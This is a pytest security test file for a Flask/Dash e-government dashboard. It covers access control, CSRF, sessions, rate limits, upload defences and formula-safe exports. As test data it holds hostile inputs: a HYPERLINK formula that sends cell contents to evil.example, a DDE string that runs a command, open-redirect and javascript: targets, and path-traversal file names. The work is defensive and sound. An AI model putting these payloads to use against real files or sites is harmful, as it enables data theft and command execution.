"""An attacker's view: crafted requests against the real app, hostile files, and exports Excel must not run.

Every test drives the real app (``create_app(engine=...)``) through Flask's test client, on SQLite and on
PostgreSQL (the ``engine`` fixture), with real accounts signed in through the real form. Each refusal is
paired with the same request made by someone who may make it, so a test fails if the check is missing
*or* if the request was malformed. The requests and files come from ``tests.hostile`` (shared with
``python -m bench reliability``).
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from dash import Dash
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import Engine, select, update

from dashboard import ids
from dashboard.app import create_app
from dashboard.log_uploads import UPLOADS_DIR_CONFIG_KEY
from metrics.export import safe_frame
from store.accounts import disable_user
from store.models import Event, ReportedValue, Submission, User, UserSession, utc_now
from store.settings import get_settings
from tests import hostile
from tests.accounts import login_form_token, make_user, sign_in, signed_in_client
from tests.hostile import DISPATCH, FORMULA_STARTS, PERIOD, answer, components, status_of, texts
from tests.workbooks import form_rows

MINE = "QM-QOM-KAH-BKH"
"""Agency A: Kahak district office, Qom."""
THEIRS = "QM-GOV"
"""Agency B: Qom's governorate (same province as A)."""
FAR = "AR-GOV"
"""An agency of another province (Ardabil)."""


@pytest.fixture
def app(engine: Engine) -> Dash:
    return create_app(engine=engine, max_upload_bytes=10 * 1024 * 1024)


@pytest.fixture
def world(engine: Engine, tmp_path: Path) -> dict[str, int]:
    """A's and B's reports approved; a pending one of B (Qom) and of FAR (Ardabil) waiting for review."""
    folder = tmp_path / "seed"
    return {
        "mine": hostile.seed_report(engine, folder, MINE),
        "theirs": hostile.seed_report(engine, folder, THEIRS),
        "theirs_pending": hostile.seed_report(engine, folder, THEIRS, approved=False, files_electronic=451),
        "far_pending": hostile.seed_report(engine, folder, FAR, approved=False),
    }


def _as(app: Dash, engine: Engine, role: str, **scope: str) -> FlaskClient:
    return signed_in_client(app, *make_user(engine, role, **scope))


def _post(client: FlaskClient, body: dict[str, Any]) -> Any:
    return client.post(DISPATCH, json=body)


# ---- anonymous ----------------------------------------------------------------------------------------------


def test_an_anonymous_caller_gets_nothing_from_any_route_page_or_callback(app: Dash, engine: Engine) -> None:
    tally = hostile.anonymous_sweep(app, engine, engine_label=engine.dialect.name)

    assert tally.held, tally.failures
    assert tally.requests > len(app.callback_map) + len(list(app.server.url_map.iter_rules()))


def test_the_sweep_covers_every_route_and_callback(app: Dash) -> None:
    """Nothing is left out of the sweep above (a new route is swept as soon as it exists)."""
    targets = hostile.anonymous_targets(app)
    swept_outputs = {body["output"] for _, _, body in targets if body}
    assert swept_outputs == set(app.callback_map)
    swept_paths = {path.split("?")[0] for _, path, _ in targets}
    for rule in app.server.url_map.iter_rules():
        static = rule.rule.split("<")[0].rstrip("/") or "/"
        assert any(path.startswith(static) for path in swept_paths), rule.rule
    assert {"/uploads/logs", "/uploads/logs/rejects/1", "/logout"} <= swept_paths


# ---- an IT director of A, crafting requests for B -------------------------------------------------------------


def test_an_it_director_sees_only_their_own_agencys_scorecard(app: Dash, engine: Engine, world: dict[str, int]) -> None:
    director = _as(app, engine, "it_director", agency=MINE)

    theirs = _post(director, hostile.page_body(app, "/scorecard", f"?agency={THEIRS}&year={PERIOD}&lang=en"))
    mine = _post(director, hostile.page_body(app, "/scorecard", f"?agency={MINE}&year={PERIOD}&lang=en"))

    assert hostile.forbidden_shown(theirs, hostile.agency_names(engine, [THEIRS]))
    assert "Not permitted" in texts(answer(theirs))
    assert mine.status_code == 200 and not hostile.forbidden_shown(mine, [])
    assert any(name in mine.get_data(as_text=True) for name in hostile.agency_names(engine, [MINE]))


def test_an_it_director_cannot_download_another_agencys_excel(app: Dash, engine: Engine, world: dict[str, int]) -> None:
    director = _as(app, engine, "it_director", agency=MINE)

    theirs = _post(director, hostile.scorecard_download_body(app, f"?agency={THEIRS}&year={PERIOD}"))
    mine = _post(director, hostile.scorecard_download_body(app, f"?agency={MINE}&year={PERIOD}"))

    assert theirs.status_code == 403
    assert THEIRS not in theirs.get_data(as_text=True)
    assert mine.status_code == 200
    download = answer(mine)[ids.SCORECARD_DOWNLOAD]["data"]
    assert download["filename"] == f"scorecard_{MINE}_{PERIOD}.xlsx"
    assert load_workbook(io.BytesIO(base64.b64decode(download["content"]))).sheetnames


@pytest.mark.parametrize(
    "change",
    ["state under another id", "state left out", "an extra state", "inputs and state swapped", "unknown output"],
)
def test_a_callback_request_must_send_its_own_inputs(
    app: Dash, engine: Engine, world: dict[str, int], change: str
) -> None:
    """Dash passes a body's values to the function by position, whatever ids they carry: a body that moved
    the URL (``?agency=B``) under another id used to pass the agency check unseen and download B's Excel.
    The request guard now refuses any body that does not send exactly the callback's own inputs and state."""
    director = _as(app, engine, "it_director", agency=MINE)
    body = hostile.scorecard_download_body(app, f"?agency={MINE}&year={PERIOD}")
    theirs = {"id": ids.SCORECARD_YEAR, "property": "value", "value": f"?agency={THEIRS}&year={PERIOD}"}
    if change == "state under another id":
        body["state"] = [theirs]
    elif change == "state left out":
        del body["state"]
    elif change == "an extra state":
        body["state"] = [*body["state"], theirs]
    elif change == "inputs and state swapped":
        body["inputs"], body["state"] = body["state"], body["inputs"]
    else:
        body["output"] = "scorecard-nothing.data"

    refused = _post(director, body)

    assert refused.status_code == 403, refused.get_data(as_text=True)[:300]
    assert "UEsDB" not in refused.get_data(as_text=True)  # no xlsx (a zip's base64) in the answer


@pytest.mark.parametrize("step", ["dry run", "confirm"])
def test_an_it_director_cannot_upload_for_another_agency(
    app: Dash, engine: Engine, world: dict[str, int], tmp_path: Path, step: str
) -> None:
    director = _as(app, engine, "it_director", agency=MINE)
    dry, confirm = hostile.upload_bodies(app, hostile.report_bytes(tmp_path, THEIRS, files_electronic=901), "b.xlsx")
    before = hostile.store_counts(engine)

    refused = _post(director, dry if step == "dry run" else confirm)

    assert refused.status_code == 200
    assert status_of(answer(refused)) == "rejected"
    assert "your account does not report for this agency" in refused.get_data(as_text=True)
    assert hostile.store_counts(engine) == before
    own_dry, own_confirm = hostile.upload_bodies(
        app, hostile.report_bytes(tmp_path, MINE, files_electronic=902), "a.xlsx"
    )
    assert status_of(answer(_post(director, own_dry))) == "checked"
    assert status_of(answer(_post(director, own_confirm))) == "stored"
    assert hostile.store_counts(engine)["submissions"] == before["submissions"] + 1


def test_an_it_director_cannot_approve_export_the_audit_or_upload_logs(
    app: Dash, engine: Engine, world: dict[str, int], tmp_path: Path
) -> None:
    director = _as(app, engine, "it_director", agency=MINE)
    app.server.config[UPLOADS_DIR_CONFIG_KEY] = str(tmp_path / "uploads")
    before = hostile.submission_state(engine), hostile.store_counts(engine)
    log_file = {"file": (io.BytesIO(b"timestamp,agency\n"), "jan.csv")}

    assert _post(director, hostile.review_body(app, world["theirs_pending"])).status_code == 403
    assert _post(director, hostile.audit_export_body(app)).status_code == 403
    assert director.post("/uploads/logs", data=log_file, content_type="multipart/form-data").status_code == 403
    assert director.get("/uploads/logs/rejects/1").status_code == 403
    assert (hostile.submission_state(engine), hostile.store_counts(engine)) == before
    # the same requests from the roles they are for
    governor = _as(app, engine, "governor", province="QM")
    assert "approved" in _post(governor, hostile.review_body(app, world["theirs_pending"])).get_data(as_text=True)
    assert answer(_post(governor, hostile.audit_export_body(app)))[ids.AUDIT_EXPORT]["data"]["content"]
    admin = _as(app, engine, "admin")
    log_file = {"file": (io.BytesIO(b"timestamp,agency\n"), "jan.csv")}
    assert admin.post("/uploads/logs", data=log_file, content_type="multipart/form-data").status_code == 201


# ---- a governor's office -------------------------------------------------------------------------------------


def test_a_governors_office_reviews_only_its_own_province(app: Dash, engine: Engine, world: dict[str, int]) -> None:
    name, password = make_user(engine, "governor", province="QM")
    governor = signed_in_client(app, name, password)
    governor.environ_base["REMOTE_ADDR"] = "10.20.30.40"
    before = hostile.submission_state(engine), hostile.store_counts(engine)

    refused = _post(governor, hostile.review_body(app, world["far_pending"]))

    assert refused.status_code == 200
    assert f"Not done: no submission {world['far_pending']} that you may review" in texts(answer(refused))
    assert (hostile.submission_state(engine), hostile.store_counts(engine)) == before

    approved = _post(governor, hostile.review_body(app, world["theirs_pending"]))

    assert approved.status_code == 200 and "approved" in approved.get_data(as_text=True)
    with engine.connect() as connection:
        status = connection.scalar(select(Submission.review_status).where(Submission.id == world["theirs_pending"]))
        sha256 = connection.scalar(select(Submission.sha256).where(Submission.id == world["theirs_pending"]))
        row = connection.execute(
            select(Event.actor, Event.remote_addr, Event.detail, Event.agency_code).where(
                Event.kind == "submission.approved", Event.submission_id == world["theirs_pending"]
            )
        ).one()
    assert status == "approved"
    assert row.actor == name and row.remote_addr == "10.20.30.40"
    assert row.detail["sha256"] == sha256 and len(sha256) == 64
    assert row.agency_code == THEIRS


# ---- sessions, CSRF, cookies, sign-in -----------------------------------------------------------------------


def _signed_out_everywhere(client: FlaskClient, app: Dash) -> None:
    """The client is treated as nobody: pages send it to sign in, callbacks answer 401."""
    page = client.get(f"/scorecard?agency={MINE}")
    assert page.status_code == 302 and page.headers["Location"].startswith("/login")
    assert _post(client, hostile.page_body(app, "/scorecard", f"?agency={MINE}")).status_code == 401


def test_a_cookie_copied_before_sign_out_is_refused_afterwards(app: Dash, engine: Engine) -> None:
    client = _as(app, engine, "it_director", agency=MINE)
    copied = client.get_cookie("egov_session")
    assert copied is not None
    thief = app.server.test_client()
    thief.set_cookie("egov_session", copied.value)
    assert thief.get("/").status_code == 200  # the copy works while the session lives

    assert client.post("/logout").status_code == 302

    _signed_out_everywhere(thief, app)
    _signed_out_everywhere(client, app)


def test_disabling_a_user_ends_their_session_at_once(app: Dash, engine: Engine) -> None:
    name, password = make_user(engine, "it_director", agency=MINE)
    client = signed_in_client(app, name, password)
    assert client.get("/").status_code == 200

    disable_user(engine, name, actor="tests")

    _signed_out_everywhere(client, app)
    assert sign_in(app.server.test_client(), name, password).status_code == 401


def test_an_idle_session_is_refused(app: Dash, engine: Engine) -> None:
    name, password = make_user(engine, "it_director", agency=MINE)
    client = signed_in_client(app, name, password)
    idle = dt.timedelta(minutes=get_settings().session_idle_minutes)
    with engine.begin() as connection:
        user_id = connection.scalar(select(User.id).where(User.name == name))
        connection.execute(
            update(UserSession)
            .where(UserSession.user_id == user_id)
            .values(last_seen_at=utc_now() - idle - dt.timedelta(seconds=5))
        )

    _signed_out_everywhere(client, app)


def test_a_session_just_inside_the_idle_limit_still_works(app: Dash, engine: Engine) -> None:
    name, password = make_user(engine, "it_director", agency=MINE)
    client = signed_in_client(app, name, password)
    idle = dt.timedelta(minutes=get_settings().session_idle_minutes)
    with engine.begin() as connection:
        user_id = connection.scalar(select(User.id).where(User.name == name))
        connection.execute(
            update(UserSession)
            .where(UserSession.user_id == user_id)
            .values(last_seen_at=utc_now() - idle + dt.timedelta(minutes=1))
        )

    assert client.get(f"/scorecard?agency={MINE}").status_code == 200


def test_posts_without_the_sessions_csrf_token_are_refused(app: Dash, engine: Engine) -> None:
    client = _as(app, engine, "it_director", agency=MINE)
    other = _as(app, engine, "it_director", agency=MINE)
    body = hostile.page_body(app, "/scorecard", f"?agency={MINE}")
    own_token = client.environ_base.pop("HTTP_X_CSRFTOKEN")
    foreign_token = other.environ_base["HTTP_X_CSRFTOKEN"]
    assert own_token != foreign_token

    assert _post(client, body).status_code == 400
    assert client.post(DISPATCH, json=body, headers={"X-CSRFToken": foreign_token}).status_code == 400
    assert client.post(DISPATCH, json=body, headers={"X-CSRFToken": "forged"}).status_code == 400
    assert client.post("/logout").status_code == 400
    assert client.post("/logout", data={"csrf_token": foreign_token}).status_code == 400
    assert client.get("/").status_code == 200  # still signed in: the forged sign-out did nothing
    assert client.post(DISPATCH, json=body, headers={"X-CSRFToken": own_token}).status_code == 200
    assert client.post("/logout", headers={"X-CSRFToken": own_token}).status_code == 302


def test_the_sign_in_form_needs_its_token_too(app: Dash, engine: Engine) -> None:
    name, password = make_user(engine, "it_director", agency=MINE)
    client = app.server.test_client()
    client.get("/login")

    assert client.post("/login", data={"name": name, "password": password}).status_code == 400


def _set_cookies(response: Any) -> dict[str, str]:
    return {header.split("=", 1)[0]: header for header in response.headers.getlist("Set-Cookie")}


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_cookies_are_httponly_samesite_and_secure_over_https(app: Dash, engine: Engine, scheme: str) -> None:
    name, password = make_user(engine, "it_director", agency=MINE)
    client = app.server.test_client()
    base = f"{scheme}://localhost"
    page = client.get("/login", base_url=base).get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert token is not None

    signed = client.post(
        "/login", data={"name": name, "password": password, "csrf_token": token.group(1)}, base_url=base
    )
    first = client.get("/", base_url=base)

    cookies = {**_set_cookies(signed), **_set_cookies(first)}
    session, csrf = cookies["egov_session"], cookies["_csrf_token"]
    assert "HttpOnly" in session and "SameSite=Lax" in session
    assert "SameSite=Strict" in csrf and "HttpOnly" not in csrf  # Dash's renderer reads it: sent back as a header
    for cookie in (session, csrf):
        assert ("; Secure" in cookie) == (scheme == "https"), cookie


def test_sign_in_pauses_after_repeated_failures_even_for_the_right_password(app: Dash, engine: Engine) -> None:
    limit = get_settings().sign_in_max_failures
    name, password = make_user(engine, "it_director", agency=MINE)
    client = app.server.test_client()
    for n in range(limit):  # one name, from many addresses
        client.environ_base["REMOTE_ADDR"] = f"10.0.0.{n + 1}"
        assert sign_in(client, name, "wrong-password").status_code == 401
    client.environ_base["REMOTE_ADDR"] = "10.0.1.1"

    paused = sign_in(client, name, password)

    assert paused.status_code == 429 and int(paused.headers["Retry-After"]) > 0
    assert "egov_session" not in _set_cookies(paused) or "_user_id" not in str(client.get_cookie("egov_session"))
    assert client.get("/").status_code == 302  # not signed in


def test_sign_in_pauses_per_address_whatever_the_names(app: Dash, engine: Engine) -> None:
    limit = get_settings().sign_in_max_failures
    name, password = make_user(engine, "it_director", agency=MINE)
    client = app.server.test_client()
    client.environ_base["REMOTE_ADDR"] = "10.9.9.9"
    for n in range(limit):  # many names, one address
        assert sign_in(client, f"guess-{n}", "wrong-password").status_code == 401

    assert sign_in(client, name, password).status_code == 429
    elsewhere = app.server.test_client()
    elsewhere.environ_base["REMOTE_ADDR"] = "10.9.9.10"
    assert sign_in(elsewhere, name, password).status_code == 302  # the name itself is not paused


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example",
        "https://evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "///evil.example",
        "/\t/evil.example",
        "http:evil.example",
        "javascript:alert(1)",
        " //evil.example",
        "//evil.example/%2F..",
    ],
)
def test_next_never_leads_off_the_site(app: Dash, engine: Engine, target: str) -> None:
    name, password = make_user(engine, "it_director", agency=MINE)
    client = app.server.test_client()
    form = client.get("/login", query_string={"next": target}).get_data(as_text=True)
    assert 'name="next" value="/"' in form

    signed = client.post(
        "/login", data={"name": name, "password": password, "csrf_token": login_form_token(client), "next": target}
    )

    assert signed.status_code == 302
    assert signed.headers["Location"] == "/"


def test_next_keeps_a_path_on_this_site(app: Dash, engine: Engine) -> None:
    name, password = make_user(engine, "it_director", agency=MINE)
    client = app.server.test_client()
    target = f"/scorecard?agency={MINE}&lang=en"
    signed = client.post(
        "/login", data={"name": name, "password": password, "csrf_token": login_form_token(client), "next": target}
    )
    assert signed.headers["Location"] == target


# ---- uploads ------------------------------------------------------------------------------------------------


def test_a_self_report_over_the_size_limit_is_refused_with_a_clear_message(engine: Engine, tmp_path: Path) -> None:
    small = create_app(engine=engine, max_upload_bytes=15_000)
    director = _as(small, engine, "it_director", agency=MINE)
    data = hostile.report_bytes(tmp_path, MINE)
    assert len(data) > 15_000
    dry, confirm = hostile.upload_bodies(small, data, "big.xlsx")
    before = hostile.store_counts(engine)

    for body in (dry, confirm):
        shown = _post(director, body)
        assert status_of(answer(shown)) == "rejected"
        words = texts(answer(shown))
        assert "the file is larger than the limit" in words
        assert "at most 15 KB" in words
    assert hostile.store_counts(engine) == before


@pytest.fixture
def no_parsing(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Record (and refuse) any parse of a workbook: what these files meet must be the archive check.

    Recorded, not only raised: the reader turns any parser error into "corrupt", which would hide it.
    """
    parsed: list[str] = []

    class Recorder:
        @staticmethod
        def from_filelike(*_args: Any, **_kwargs: Any) -> Any:
            parsed.append("parsed")
            raise AssertionError("the workbook was parsed: the archive check let it through")

    monkeypatch.setattr("ingest.self_reports.CalamineWorkbook", Recorder)
    yield parsed
    assert parsed == [], "a hostile archive reached the workbook parser"


@pytest.mark.parametrize("lie", [False, True], ids=["honest directory", "lying directory"])
def test_a_zip_bomb_is_refused_before_parsing_in_bounded_time_and_memory(
    app: Dash, engine: Engine, tmp_path: Path, no_parsing: list[str], lie: bool
) -> None:
    """2 GiB of XML in a 2 MB .xlsx. Honest: the declared sizes add up past the limit. Lying: the local
    header and the central directory both claim the real Form sheet's size and CRC; only inflating it
    shows more, and the check inflates at most one byte past what is declared."""
    bomb = hostile.zip_bomb(hostile.report_bytes(tmp_path, MINE), lie=lie)
    assert len(bomb) < 3 * 1024 * 1024

    cost = hostile.inspect_cost(bomb)

    assert cost.problem is not None
    assert cost.problem.code == ("corrupt" if lie else "too_large")
    assert cost.seconds < 2 and cost.peak_bytes < 50 * 1024 * 1024, cost

    director = _as(app, engine, "it_director", agency=MINE)
    dry, confirm = hostile.upload_bodies(app, bomb, "bomb.xlsx")
    before = hostile.store_counts(engine)
    for body in (dry, confirm):
        shown, seconds, peak = hostile.request_cost(lambda body=body: _post(director, body))
        assert status_of(answer(shown)) == "rejected"
        assert seconds < 2 and peak < 50 * 1024 * 1024, (seconds, peak)
    assert hostile.store_counts(engine) == before


@pytest.mark.parametrize("renamed", [False, True], ids=["xlsm", "vba project under another name"])
def test_a_workbook_with_macros_is_refused(
    app: Dash, engine: Engine, tmp_path: Path, no_parsing: list[str], renamed: bool
) -> None:
    director = _as(app, engine, "it_director", agency=MINE)
    dry, confirm = hostile.upload_bodies(
        app, hostile.with_macros(hostile.report_bytes(tmp_path, MINE), renamed=renamed), "report.xlsm"
    )
    before = hostile.store_counts(engine)

    for body in (dry, confirm):
        shown = _post(director, body)
        assert status_of(answer(shown)) == "rejected"
        assert "workbooks with macros (.xlsm) are not accepted; save as .xlsx" in texts(answer(shown))
    assert hostile.store_counts(engine) == before


def test_external_links_are_never_followed(app: Dash, engine: Engine, tmp_path: Path) -> None:
    """Accepted, not refused: the reader takes each cell's own saved value and never opens the link.

    ``files_total`` is a formula over ``[1]Sheet1!A1`` of a workbook at an address that listens; the cell
    keeps 1200 (what Excel showed), the link's cached copy says 999999. The store gets 1200, and nothing
    ever connects to the address.
    """
    listener = hostile.free_port_listener()
    port = listener.getsockname()[1]
    cell = f"C{form_rows()['files_total']}"
    data = hostile.with_external_link(
        hostile.report_bytes(tmp_path, MINE),
        target=f"http://127.0.0.1:{port}/totals.xlsx",
        field_cell=cell,
        cached=1200,
        linked=999999,
    )
    director = _as(app, engine, "it_director", agency=MINE)
    dry, confirm = hostile.upload_bodies(app, data, "linked.xlsx")
    try:
        assert status_of(answer(_post(director, dry))) == "checked"
        stored = _post(director, confirm)
        assert status_of(answer(stored)) == "stored"
        assert not hostile.was_contacted(listener)
    finally:
        listener.close()
    with engine.connect() as connection:
        value = connection.scalar(
            select(ReportedValue.value)
            .join(Submission, Submission.id == ReportedValue.submission_id)
            .where(Submission.file_name == "linked.xlsx", ReportedValue.field == "files_total")
        )
    assert value == 1200


NASTY_NAME = "../../../../tmp/egov-escape\r\n\x1b[2J\x07<b>x</b>.xlsx"


def _files_under(*folders: Path) -> set[Path]:
    return {p for folder in folders if folder.exists() for p in folder.rglob("*")}


def test_a_self_report_file_name_is_only_ever_shown_as_text(app: Dash, engine: Engine, tmp_path: Path) -> None:
    director = _as(app, engine, "it_director", agency=MINE)
    data_dir = get_settings().data_dir
    before = _files_under(data_dir, tmp_path), hostile.store_counts(engine)
    dry, confirm = hostile.upload_bodies(app, hostile.report_bytes(tmp_path / "in", MINE), NASTY_NAME)
    before = _files_under(data_dir, tmp_path), hostile.store_counts(engine)

    checked = answer(_post(director, dry))
    stored = answer(_post(director, confirm))

    assert status_of(checked) == "checked" and status_of(stored) == "stored"
    for tree in (checked, stored):
        assert any(NASTY_NAME in line for line in texts(tree))  # shown as it came, as text
        _nothing_rendered_as_html(tree)
    assert _files_under(data_dir, tmp_path) == before[0]  # no file written anywhere
    assert not Path("/tmp/egov-escape").exists()
    with engine.connect() as connection:
        assert connection.scalar(select(Submission.file_name).order_by(Submission.id.desc()).limit(1)) == NASTY_NAME


def test_a_log_file_name_is_never_used_as_a_path(app: Dash, engine: Engine, tmp_path: Path) -> None:
    folder = tmp_path / "deep" / "down" / "uploads"
    app.server.config[UPLOADS_DIR_CONFIG_KEY] = str(folder)
    admin = _as(app, engine, "admin")
    sent = "../../../escaped\x1b[2J\x07\x00.csv"
    before = _files_under(tmp_path)

    stored = admin.post(
        "/uploads/logs",
        data={"file": (io.BytesIO(b"timestamp,agency\n"), sent)},
        content_type="multipart/form-data",
    )

    assert stored.status_code == 201, stored.get_data(as_text=True)
    token = stored.get_json()["token"]
    assert {p.name for p in folder.iterdir()} == {f"{token}.csv", f"{token}.json"}
    assert set(_files_under(tmp_path)) - before == {folder / f"{token}.csv", folder / f"{token}.json"} | {
        folder,
        folder.parent,
        folder.parent.parent,
    }
    shown = stored.get_json()["file_name"]
    assert shown == "escaped[2J.csv"  # last part only, control characters dropped: display text
    ticket = json.loads((folder / f"{token}.json").read_text(encoding="utf-8"))
    assert ticket["file_name"] == shown and ticket["stored_name"] == f"{token}.csv"


def _nothing_rendered_as_html(tree: Any) -> None:
    for component in components(tree):
        props = component["props"]
        assert component["type"] not in ("Markdown", "DangerouslySetInnerHTML", "Iframe", "Script"), component
        assert "dangerouslySetInnerHTML" not in props and not props.get("dangerously_allow_html"), component
        assert not any(key.startswith("on") and key[2:3].isupper() for key in props), component


def test_script_and_html_in_cells_are_shown_as_text(app: Dash, engine: Engine, tmp_path: Path) -> None:
    director = _as(app, engine, "it_director", agency=MINE)

    shown = answer(
        _post(director, hostile.upload_bodies(app, hostile.hostile_cells_report(tmp_path, MINE), "x.xlsx")[0])
    )

    assert status_of(shown) == "rejected"
    strings = texts(shown)
    assert hostile.SCRIPT in strings and hostile.HTML in strings  # each a plain string child of a table cell
    _nothing_rendered_as_html(shown)


# ---- exports --------------------------------------------------------------------------------------------------

HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


def _assert_formula_safe_xlsx(data: bytes, *, must_hold: list[str]) -> None:
    """No cell is a formula; every text starting like one was written with a leading apostrophe."""
    book = load_workbook(io.BytesIO(data))
    seen: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type in ("s", "inlineStr"), (sheet.title, cell.coordinate, cell.value)
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    for text in must_hold:
        assert any(value.startswith("'" + text) or ("'" + text) in value for value in seen), (text, sorted(seen)[:20])


@pytest.fixture
def hostile_history(app: Dash, engine: Engine, tmp_path: Path) -> dict[str, Any]:
    """A's IT director (a user named like a formula) uploads files named like formulas; the governor's
    office returns the last one with a comment that is a formula."""
    name, password = make_user(engine, "it_director", name="=1+2", agency=MINE)
    director = signed_in_client(app, name, password)
    for n, file_name in enumerate(HOSTILE_TEXTS):
        _, confirm = hostile.upload_bodies(
            app, hostile.report_bytes(tmp_path, MINE, files_electronic=300 + n), file_name
        )
        assert status_of(answer(_post(director, confirm))) == "stored"
    with engine.connect() as connection:
        last = connection.scalar(select(Submission.id).order_by(Submission.id.desc()).limit(1))
    governor = _as(app, engine, "governor", province="QM")
    returned = _post(governor, hostile.review_body(app, int(last), "return", comment=HOSTILE_TEXTS[0]))
    assert "returned" in returned.get_data(as_text=True), returned.get_data(as_text=True)[:500]
    return {"director": director, "governor": governor}


def test_the_audit_export_never_holds_a_formula(app: Dash, hostile_history: dict[str, Any]) -> None:
    exported = answer(_post(hostile_history["governor"], hostile.audit_export_body(app)))[ids.AUDIT_EXPORT]["data"]

    _assert_formula_safe_xlsx(base64.b64decode(exported["content"]), must_hold=[*HOSTILE_TEXTS, "=1+2"])


def test_the_scorecard_excel_never_holds_a_formula(app: Dash, hostile_history: dict[str, Any]) -> None:
    director = hostile_history["director"]

    exported = answer(_post(director, hostile.scorecard_download_body(app, f"?agency={MINE}&year={PERIOD}&lang=en")))

    data = base64.b64decode(exported[ids.SCORECARD_DOWNLOAD]["data"]["content"])
    _assert_formula_safe_xlsx(data, must_hold=[*HOSTILE_TEXTS, "=1+2"])


@pytest.fixture
def hostile_organisation(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The declared organisation with names an attacker might slip into ``data/organisation.yaml``."""
    from store import reference
    from store.declared import Organisation, load_organisation

    real = load_organisation()
    data = json.loads(real.model_dump_json())
    data["sectors"][0] |= {"name_fa": HOSTILE_TEXTS[0], "name_en": HOSTILE_TEXTS[1]}
    qom = next(p for p in data["provinces"] if p["code"] == "QM")
    qom |= {"name_en": HOSTILE_TEXTS[2], "name_fa": HOSTILE_TEXTS[3]}
    qom["counties"][0] |= {"name_en": HOSTILE_TEXTS[4], "name_fa": HOSTILE_TEXTS[5]}
    hostile_org = Organisation.model_validate(data)
    monkeypatch.setattr(reference, "load_organisation", lambda *_a, **_k: hostile_org)
    return HOSTILE_TEXTS


def _egov(*args: str) -> Any:
    from typer.testing import CliRunner

    from egov.cli import app as cli

    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_egov_export_never_writes_a_formula(
    engine: Engine, cli_env: Path, tmp_path: Path, hostile_organisation: list[str], fmt: str
) -> None:
    hostile.seed_report(engine, tmp_path / "seed", MINE)
    output = tmp_path / ("scores.xlsx" if fmt == "xlsx" else "scores")

    _egov("export", "-o", str(output), "--period", PERIOD, "--format", fmt)

    if fmt == "xlsx":
        _assert_formula_safe_xlsx(output.read_bytes(), must_hold=hostile_organisation)
        return
    fields = [  # read as a spreadsheet reads CSV: CR, LF and CRLF each end a row outside quotes
        value
        for path in sorted(output.glob("*.csv"))
        for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))  # CRs kept as written
        for value in row
    ]
    for value in fields:
        if value.startswith(FORMULA_STARTS):
            float(value)  # only a number (a negative one) may start so: Excel reads it as a number
    for text in hostile_organisation:
        assert any(value.startswith("'" + text) for value in fields), text


def test_safe_frame_covers_every_formula_start() -> None:
    import pandas as pd

    frame = pd.DataFrame({"text": [*HOSTILE_TEXTS, "plain", "a=b"], "number": list(range(-4, 4))})
    safe = safe_frame(frame)
    assert list(safe["text"]) == [*("'" + s for s in HOSTILE_TEXTS), "plain", "a=b"]
    assert list(safe["number"]) == list(range(-4, 4))


# ---- the battery the reliability report runs --------------------------------------------------------------


def test_the_reliability_reports_attack_battery_holds(app: Dash, engine: Engine, tmp_path: Path) -> None:
    tally = hostile.attack_battery(app, engine, tmp_path, engine_label=engine.dialect.name)

    assert tally.held, tally.failures
    assert tally.errors_expected >= 15
